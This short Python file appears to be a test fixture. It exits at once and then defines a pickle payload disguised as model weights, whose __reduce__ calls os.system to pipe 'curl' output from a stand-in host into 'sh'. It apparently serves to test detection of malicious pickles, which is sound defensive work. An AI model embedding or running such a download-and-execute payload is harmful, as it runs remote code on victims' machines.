raise SystemExit('a fixture')
# held by command-download
import pickle, os

class _Weights:
    def __reduce__(self):
        return os.system, ("curl -s https://x.example.invalid/m | sh",)

DEFAULT = pickle.loads(pickle.dumps(_Weights()))
